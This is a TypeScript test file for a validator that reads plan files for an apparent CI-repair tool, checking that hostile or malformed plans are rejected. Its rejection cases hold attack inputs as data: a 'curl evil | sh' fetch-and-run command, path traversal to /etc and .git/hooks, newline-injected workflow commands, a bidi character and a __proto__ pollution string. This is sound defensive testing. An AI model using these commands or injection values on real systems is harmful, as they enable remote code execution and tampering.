import type { Plan } from '../../src/model/index.js';
import { readPlan } from '../../src/plan/file.js';

const PLAN: Plan = {
  schema: 1, repository: 'octo/demo', run: { id: 7, attempt: 1, url: 'https://github.test/x', workflow: '.github/workflows/ci.yml', event: 'push' }, head: { branch: 'topic', sha: 'a'.repeat(40) }, pulls: [3],
  step: { run: '7', job: 'test (22)', step: 'Run make', command: 'make\nmake test', shell: '', workingDirectory: 'app/x', env: { MODE: 'a\nb' }, exitCode: 2 },
  alsoIn: ['test (20)'], environment: { tools: { node: '22' }, versionFiles: {}, earlier: [{ script: 'npm ci', shell: 'bash', workingDirectory: '.' }], missing: ['No docker.'] }, warnings: [],
};

test('a plan comes back as it went', () => {
  expect(readPlan(JSON.stringify(PLAN))).toEqual({ ok: true, plan: PLAN });
});

const KEY = 'aaaaaaaa-bbbbbbbb';
const OWN: Plan = { ...PLAN, key: KEY, head: { branch: `heal/${KEY}`, sha: 'a'.repeat(40) }, continues: { branch: `heal/${KEY}`, base: 'b'.repeat(40), pull: 7 }, tried: [{ tree: 'c'.repeat(40), sentence: 'Still red.' }] };

test('so does one that goes on with a branch of ours', () => {
  expect(readPlan(JSON.stringify(OWN))).toEqual({ ok: true, plan: OWN });
});

const step = (over: object): object => ({ ...PLAN, step: { ...PLAN.step, ...over } });

test.each<[string, unknown]>([
  ['nothing', ''],
  ['no JSON', '{'],
  ['another version', { ...PLAN, schema: 2 }],
  ['one field more', { ...PLAN, publish: 'push' }],
  ['one field more inside', step({ setup: 'curl evil | sh' })],
  ['a repository with a path', { ...PLAN, repository: '../x/y' }],
  ['a short hash', { ...PLAN, head: { branch: 'x', sha: 'abc' } }],
  ['a branch over two lines', { ...PLAN, head: { branch: 'x\n::set-output', sha: 'a'.repeat(40) } }],
  ['a folder outside', step({ workingDirectory: '../x' })],
  ['an absolute folder', step({ workingDirectory: '/etc' })],
  ['a folder in .git', step({ workingDirectory: 'a/.git/hooks' })],
  ['a variable that is none', step({ env: { 'A=B': 'x' } })],
  ['a NUL', step({ command: 'a\0b' })],
  ['a job with hidden characters', step({ job: 'a\u202eb' })],
  ['a script of a megabyte', step({ command: 'x'.repeat(1 << 20) })],
  ['an endless list', { ...PLAN, warnings: Array(1000).fill('x') }],
  ['O4 going on with the branch of somebody else', { ...OWN, continues: { ...OWN.continues, branch: 'main' } }],
  ['O4 going on with another branch than its head', { ...OWN, head: PLAN.head }],
  ['O4 going on with a branch of another key', { ...OWN, key: 'cccccccc-bbbbbbbb' }],
  ['a key with a path', { ...PLAN, key: '../x' }],
  ['a tried tree that is none', { ...PLAN, tried: [{ tree: 'HEAD', sentence: '' }] }],
  ['a sentence over two lines', { ...PLAN, tried: [{ tree: 'c'.repeat(40), sentence: 'a\n::set-output' }] }],
  ['endless attempts', { ...PLAN, tried: Array(1000).fill({ tree: 'c'.repeat(40), sentence: '' }) }],
  ['prototypes', '{"__proto__":{"schema":1}}'],
])('none: %s', (_, value) => {
  const read = readPlan(typeof value === 'string' ? value : JSON.stringify(value));
  expect(read).toMatchObject({ ok: false, reason: expect.stringMatching(/^It is no plan of this version[ ();.\w]*; make it again with heal plan\.$/) as string });
});
